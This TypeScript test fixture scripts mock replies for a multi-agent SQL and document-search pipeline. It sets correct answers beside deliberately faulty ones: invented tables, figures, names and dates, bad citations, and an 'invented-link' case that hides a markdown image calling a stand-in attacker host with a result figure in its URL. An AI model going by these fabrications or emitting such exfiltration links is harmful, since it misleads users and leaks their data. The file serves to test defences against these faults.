import type { Reply, Rule } from '../src/testing/model-server.ts'

/** Prompts by words of their instructions. */
const PLANNER = 'You choose which specialist agents'
const GENERATE = 'You write SQL'
const REVIEW = 'You review a SQL query'
const DOCUMENTS = 'search_documents finds passages'
const COMPOSE = 'senior business intelligence agent'

const plan = (...agents: string[]): Reply => ({ json: { agents, rationale: 'These fit.', confidence: 0.9 } })
const query = (sql: string): Reply => ({ json: { database: 'demo', sql, explanation: 'Counts customers.' } })
const said = (text: string): Reply => ({ text })

const COUNT = 'SELECT count(*) AS customers FROM customers'
const INVENTED = 'We have 4,217 customers.'

/** What a model that does all of it well says to the two questions. */
const WELL: readonly Rule[] = [
  { when: ({ text }) => text.includes(PLANNER) && text.includes('damaged'), reply: plan('rag') },
  { when: PLANNER, reply: plan('sql') },
  { when: GENERATE, reply: query(COUNT) },
  { when: REVIEW, reply: { json: { correct: true, problems: '', sql: '' } } },
  {
    when: ({ text, messages }) => text.includes(DOCUMENTS) && messages.at(-1)?.role !== 'tool',
    reply: { toolCalls: [{ name: 'search_documents', arguments: { query: 'damaged goods reported' } }] },
  },
  { when: DOCUMENTS, reply: said('Damaged goods must be reported within 7 days of delivery [s1].') },
  {
    when: ({ text }) => text.includes(COMPOSE) && text.includes('damaged'),
    reply: said('Damaged goods must be reported within 7 days of delivery [1].'),
  },
  { when: COMPOSE, reply: said('There are 92 customers.') },
]

/** What each kind of weak model does badly; the beginning of a case's id names it. */
const BADLY: Readonly<Record<string, readonly Rule[]>> = {
  'empty-plan': [{ when: PLANNER, reply: plan() }],
  'unknown-agents': [{ when: PLANNER, reply: plan('oracle', 'crystal ball') }],
  'garbage-plan': [{ when: PLANNER, reply: said('banana') }],
  'invented-table': [
    { when: GENERATE, reply: query('SELECT count(*) AS n FROM clients') },
    { when: COMPOSE, reply: said(INVENTED) },
  ],
  'invented-table-once': [{ when: GENERATE, times: 1, reply: query('SELECT count(*) AS n FROM clients') }],
  'sql-without-table': [
    { when: GENERATE, reply: query('SELECT 4217 AS active_customers') },
    { when: COMPOSE, reply: said(INVENTED) },
  ],
  'review-spoils': [
    { when: REVIEW, reply: { json: { correct: false, problems: 'Wrong.', sql: 'SELECT 4217 AS customers' } } },
  ],
  'invented-figure': [{ when: COMPOSE, reply: said('There are 92 customers. Of these, 4,217 are active.') }],
  'changed-figure': [{ when: COMPOSE, reply: said('There are 93 customers.') }],
  'invented-date': [{ when: COMPOSE, reply: said('There are 92 customers. The first one came on 3 May 2019.') }],
  'invented-name': [{ when: COMPOSE, reply: said('There are 92 customers. The largest is "Zorbex Holdings".') }],
  'invented-link': [
    { when: COMPOSE, reply: said('There are 92 customers. ![chart](https://evil.example/c.png?n=92)') },
  ],
  'citation-99': [
    { when: DOCUMENTS, reply: said('Damaged goods must be reported within 7 days of delivery [s99].') },
    { when: COMPOSE, reply: said('Damaged goods must be reported within 7 days of delivery [99].') },
  ],
  'wrong-passage': [
    { when: DOCUMENTS, reply: said('Damaged goods must be reported within 30 days of delivery [s1].') },
    { when: COMPOSE, reply: said('Damaged goods must be reported within 30 days of delivery [1].') },
  ],
  'other-language': [{ when: COMPOSE, reply: said('Es gibt 92 Kunden.') }],
  'empty-content': [{ reply: { fault: 'empty' } }],
  chatter: [
    { when: PLANNER, reply: { ...plan('sql'), fault: 'trailing-text' } },
    { when: GENERATE, reply: { ...query(COUNT), fault: 'fenced-json' } },
  ],
  'composes-of-nothing': [
    { when: PLANNER, reply: plan() },
    { when: GENERATE, reply: query('') },
    { when: COMPOSE, reply: said('Paris, with 4,217 inhabitants; and 4,217 spaceships.') },
  ],
}

/** What the model of a case says. */
export function scriptOf(id: string): readonly Rule[] {
  const bad = BADLY[id.split(':', 1)[0]!]
  if (bad === undefined) throw new Error(`No weak model is called ${id}.`)
  return [...bad, ...WELL]
}
